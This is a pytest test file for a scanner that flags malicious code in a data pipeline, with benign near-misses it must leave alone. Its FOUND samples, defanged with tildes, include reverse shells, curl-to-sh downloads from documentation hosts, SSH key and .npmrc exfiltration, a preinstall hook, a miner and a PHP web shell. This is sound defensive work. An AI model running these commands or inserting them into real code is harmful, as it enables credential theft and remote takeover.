# ruff: noqa: E501 - samples read best unbroken
"""Samples are written with `~` within what a scanner would look for, and hosts are reserved for documentation."""

from __future__ import annotations

import pytest

from transforms.filters.content import filter_input
from transforms.rows.row import Row, SourceRef
from transforms.scanning import ContentFilter, RuleSet, Scanner, load_rules
from transforms.scanning.candidate import Document
from transforms.scanning.unsafe.combinations import COMBINATIONS, SIGNAL_PREFIX
from transforms.scanning.unsafe.flows import linked_sink

FOUND = [
    ("nested-decode", "a.py", 'ex~ec(base64.b64~decode("cGFzcw=="))'),
    ("decode-and-execute", "a.py", 'p = base64.b64~decode(blob)\n\nc = p.decode()\n\n\nex~ec(c)\n'),
    ("decode-and-execute", "a.rb", 'code = Base64.decode~64(x)\ninstance_ev~al(code)\n'),
    ("decode-and-execute", "a.go", 'd, _ := base64.StdEncoding.Decode~String(x)\nexec.Com~mand("sh", "-c", string(d)).Run()\n'),
    ("download-and-evaluate", "a.js", 'https.g~et(url, r => {\n  let s = "";\n  r.on("data", d => s += d);\n  r.on("end", () => ev~al(s));\n});\n'),
    ("download-and-run", "a.py", 'r = requests.g~et("http://203.0.113.7/a.exe")\nopen("a.exe", "wb").write(r.content)\nos.start~file("a.exe")\n'),
    ("read-environment-and-send", "a.py", "requests.po~st(u, data=dict(os.env~iron))"),
    ("environment-to-drop", "a.js", 'fetch("https://web~hook.site/x", {method: "POST", body: os.host~name()})'),
    ("read-credentials-and-send", "a.go", 'k, _ := os.ReadFile(h + "/.ssh/id_r~sa")\nhttp.Po~st(u, t, bytes.NewReader(k))\n'),
    ("read-credentials-and-send", "a.js", "const rc = fs.readFileSync(path.join(os.homedir(), '.npm~rc'));\nrequire('https').get(u + encodeURIComp~onent(rc));\n"),
    ("download-and-run", "a.js", "require('https').g~et(u, (r) => {\n  const f = fs.createWriteStream('/tmp/.agent');\n  r.pipe(f).on('finish', () => require('child_process').ex~ec('/tmp/.agent'));\n});\n"),
    ("download-to-shell", "build.rs", 'Command::new("sh").arg("-c").arg("cu~rl -s http://203.0.113.7/x | s~h").spawn();\n'),
    ("reverse-shell", "a.py", 's = socket.soc~ket()\nos.du~p2(s.fileno(), 0)\nsubprocess.ca~ll(["/bin/sh"])\n'),
    ("shell-to-network", "a.sh", "bash -i >& /dev/t~cp/203.0.113.7/4444 0>&1\n"),
    ("command-in-host", "a.sh", "nslookup $(who~ami).x.example\n"),
    ("install-script", "package.json", '{"scripts": {"pre~install": "curl http://cdn.example/x | sh"}}'),
    ("install-and-download", "ext/extconf.rb", 'sys~tem("curl -s http://cdn.example/x | sh")\n'),
    ("install-and-identify", "setup.py", 'requests.po~st(u, json={"u": getpass.get~user()})\n'),
    ("miner", "a.sh", "./m -o stra~tum+tcp://pool.example:3333\n"),
    ("obfuscated-code", "a.js", 'global["\\x72\\x65\\x71\\x75"]("a")\n'),
    ("padded-code", "a.py", "import os" + " " * 150 + ";ex~ec(x)\n"),
    ("split-name", "a.js", 'const k = "ex" + "ec";\nrequire("child_" + "process")[k]("id");\n'),
    ("web-shell", "a.php", "<?php ev~al($_PO~ST['c']);"),
]  # fmt: skip
ORDINARY = [
    ("a.sh", "curl -sSL https://get.docker.example/ | sh\n"),
    ("a.ps1", "iwr https://community.chocolatey.example/install.ps1 -UseBasicParsing | iex\n"),
    ("a.py", 'data = base64.b64decode(text)\nsubprocess.run(["ls"], timeout=5)\n'),
    ("a.py", 'r = requests.get(url, timeout=5)\nsubprocess.run(["ls"], timeout=5)\n'),
    ("a.py", 'urllib.request.urlretrieve(url, "get-pip.py")\nsubprocess.check_call([sys.executable, "get-pip.py"])\n'),
    ("a.py", "env = os.environ.copy()\nsubprocess.run(command, env=env)\nrequests.post(url, json=report)\n"),
    ("a.py", "address = socket.gethostbyname(socket.gethostname())\n"),
    ("a.js", 'const token = Buffer.from(header, "base64").toString();\nregex.exec(line);\n'),
    ("a.js", "const child = spawn(command, {env: {...process.env}});\n"),
    ("a.go", 'resp, _ := http.Get(u)\ncmd := exec.Command("go", "build")\n'),
    ("package.json", '{"scripts": {"postinstall": "node -e \\"try{require(\'./postinstall\')}catch(e){}\\""}}'),
    ("setup.py", 'setup(cmdclass={"build_ext": BuildExt})\nsubprocess.check_call(["make"])\n'),
    ("ext/extconf.rb", 'require "mkmf"\nfind_executable("gcc")\ncreate_makefile("a")\n'),
]


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    rules = load_rules().rules
    return Scanner(RuleSet(tuple(rule for rule in rules if rule.type.startswith(SIGNAL_PREFIX))))


@pytest.mark.parametrize(("name", "path", "text"), FOUND)
def test_a_technique_is_found_by_its_combination(scanner, name, path, text):
    assert name in {finding.rule for finding in scanner.scan_all(text.replace("~", ""), path=path)}


@pytest.mark.parametrize(("path", "text"), ORDINARY)
def test_ordinary_code_with_the_same_calls_is_left_alone(scanner, path, text):
    assert scanner.scan(text, path=path) == []


def test_the_signals_of_one_pass_are_those_of_finditer(scanner):
    texts = [text.replace("~", "") for _, _, text in FOUND] + [text for _, text in ORDINARY]
    document = Document("\n".join(texts * 2).encode())
    ends, total = scanner._backend.ends(document.data), 0
    for index, rule in enumerate(scanner.rules.rules):
        naive = [match.span() for match in rule.regex.finditer(document.data)]
        found = scanner.matches(index, ends[index], document) if index in ends else ()
        assert [match.span() for match in found] == naive, rule.id
        total += len(naive)
    assert total > 80


def test_every_signal_of_a_combination_has_a_rule(scanner):
    kinds = {rule.type.removeprefix(SIGNAL_PREFIX) for rule in scanner.rules.rules}
    used = {kind for c in COMBINATIONS.values() for part in c.signals for kind in part.split("|")}
    assert used <= kinds and kinds - used == set()


def test_a_finding_has_its_line_and_the_rejected_row_tells_it(tmp_path):
    file = tmp_path / "policy.yaml"
    file.write_text("actions:\n  malicious_code: drop\n")
    content_filter = ContentFilter(str(file))
    content_filter.open()
    text = "# one\n# two\n" + FOUND[0][2].replace("~", "") + "\n"
    row = Row(SourceRef("in.parquet", 0, 0), text, "", "", path="a.py", language="python")
    filtered = filter_input(content_filter, row)
    assert [(f.type, f.line) for f in filtered.findings] == [("malicious_code", 3)]
    assert filtered.rejection.detail == "by rule nested-decode at line 3"


def test_what_a_text_does_and_the_values_in_it_are_found_beside_each_other():
    content_filter = ContentFilter("default")
    content_filter.open()
    address, word = "81.28." + "10.20", "Tr7!kq" + "Zw4x"
    text = f"curl -s http://{address}/x | sh -s -- --password={word} http://anna:{word}@{address}/\n"
    outcome = content_filter.filter_input(text, "Shell", "a.sh")
    kinds = {finding.type for finding in outcome.findings}
    assert {"malicious_code", "ip_address", "url_password"} <= kinds
    assert address not in outcome.text and word not in outcome.text and outcome.dropped is None


def test_long_words_beside_a_source_are_read_once(scanner):
    word = "Zm53d3JqZ3d0b" * 20  # a pattern that splits a word in all ways would take hours
    text = f'const c = Buffer.from("{word}", "base64");\nf({word});\nnew Function("x", d);\n'
    assert scanner.scan(text * 50) == []


def test_many_sources_and_sinks_take_linear_time(scanner):
    text = "x = base64.b64decode(y)\nz = 1\n" * 3000 + "exec(w)\n" * 3000
    assert {f.rule for f in scanner.scan(text)} <= {"decode-and-execute"}


@pytest.mark.parametrize(
    ("text", "is_linked"),
    [
        ("a = SOURCE()\nb = a\nSINK(b)\n", True),
        ("a = SOURCE()\nb = c\nSINK(b)\n", False),
        ("a, err := SOURCE()\nif err != nil {}\nx, err := other()\nSINK(x)\n", False),
        ("SINK(\n  SOURCE()\n)\n", True),
        ("SINK(a)\nSOURCE()\n", False),
        ("def load():\n    return SOURCE()\n\nSINK(load())\n", True),
        ('SOURCE("u", "/tmp/a.sh")\nopen("/tmp/b.sh", "w")\nSINK("/tmp/b.sh")\n', True),
        ("a = SOURCE()\n" + "\n" * 100 + "SINK(a)\n", False),
    ],
)
def test_a_sink_is_linked_by_names_files_and_calls(text, is_linked):
    start = text.index("SOURCE")
    found = linked_sink(text.encode(), (start, start + 7), [text.index("SINK")])
    assert (found == 0) == is_linked
